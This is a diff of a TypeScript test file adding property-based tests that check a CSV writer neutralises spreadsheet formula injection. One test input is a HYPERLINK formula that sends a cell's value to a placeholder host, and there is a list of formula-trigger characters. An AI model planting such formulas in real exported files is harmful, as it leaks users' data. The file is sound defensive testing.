@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { parseCsv, writeCsv } from './csv';
+import fc from 'fast-check';
+import { csvField, parseCsv, protectFormula, unprotectFormula, writeCsv } from './csv';
 
 describe('csv', () => {
   it('parses quoted fields with commas, quotes and newlines, keeping each record\'s physical line', () => {
@@ -32,5 +33,60 @@ describe('csv', () => {
     const text = writeCsv(['id', 'note'], rows);
     expect(text).toBe('id,note\n1,"a, ""b"""\n2,"two\nlines"\n3,\n');
     expect(parseCsv(text).records.map((r) => r.values)).toEqual(rows);
+  });
+});
+
+describe('cells a spreadsheet would run as a formula', () => {
+  /** What Excel, LibreOffice and Google Sheets run as a formula: = + - @, tab, CR, NUL in front. */
+  const FORMULA_CHARS = ['=', '+', '-', '@', '\t', '\r', '\0'];
+  const runsAsFormula = (cell: string) => FORMULA_CHARS.includes(cell[0] ?? '') && !/^[+-]?\d+(?:\.\d+)?$/.test(cell);
+  const apostrophes = fc.nat({ max: 3 }).map((n) => "'".repeat(n));
+  const formula = fc.tuple(apostrophes, fc.constantFrom(...FORMULA_CHARS), fc.string()).map(([a, c, rest]) => a + c + rest);
+  /** Anything else: after any apostrophes, a first character that starts no formula (or nothing). */
+  const ordinary = fc.tuple(apostrophes, fc.string().filter((s) => !FORMULA_CHARS.includes(s[0] ?? '') && s[0] !== "'")).map(([a, rest]) => a + rest);
+  const plainNumber = fc
+    .tuple(fc.constantFrom('', '-', '+'), fc.nat(), fc.option(fc.nat(), { nil: undefined }))
+    .map(([sign, whole, decimals]) => `${sign}${whole}${decimals === undefined ? '' : `.${decimals}`}`);
+  const anyValue = fc.oneof(fc.string(), formula, ordinary, plainNumber, fc.string({ unit: 'binary' }));
+
+  it('gives back every value: unprotect(protect(v)) = v', () => {
+    fc.assert(fc.property(anyValue, (value) => unprotectFormula(protectFormula(value)) === value));
+  });
+
+  it('writes no cell that a spreadsheet would run', () => {
+    fc.assert(fc.property(anyValue, (value) => !runsAsFormula(protectFormula(value))));
+  });
+
+  it('leaves ordinary values and plain numbers as they are, on the way out and back in', () => {
+    fc.assert(fc.property(fc.oneof(ordinary, plainNumber), (value) => protectFormula(value) === value && unprotectFormula(value) === value));
+  });
+
+  it('puts one apostrophe before a formula, also before one that starts with apostrophes', () => {
+    fc.assert(fc.property(formula, (value) => !/^[+-]?\d+(?:\.\d+)?$/.test(value) === (protectFormula(value) === `'${value}`)));
+    expect(protectFormula('=HYPERLINK("http://x.example/?d="&A1)')).toBe('\'=HYPERLINK("http://x.example/?d="&A1)');
+    expect(protectFormula('+31 6 1234 5678')).toBe("'+31 6 1234 5678");
+    expect(protectFormula('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(protectFormula('\tC')).toBe("'\tC");
+    expect(protectFormula("'=x")).toBe("''=x");
+    expect(unprotectFormula("''=x")).toBe("'=x");
+    expect(protectFormula("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
+    expect([protectFormula('-3'), protectFormula('-0.5'), protectFormula('+31')]).toEqual(['-3', '-0.5', '+31']);
+  });
+
+  it('round-trips any rows through writeCsv and parseCsv', () => {
+    const rows = fc.array(fc.tuple(anyValue, anyValue), { maxLength: 5 });
+    fc.assert(
+      fc.property(rows, (values) => {
+        const parsed = parseCsv(writeCsv(['a', 'b'], values));
+        expect(parsed.problems).toEqual([]);
+        expect(parsed.records.map((r) => r.values.map(unprotectFormula))).toEqual(values);
+      }),
+    );
+  });
+
+  it('quotes a protected cell where RFC 4180 needs it', () => {
+    expect(csvField('=1,2')).toBe('"\'=1,2"');
+    expect(csvField('\rX')).toBe('"\'\rX"');
+    expect(csvField('gewoon')).toBe('gewoon');
   });
 });
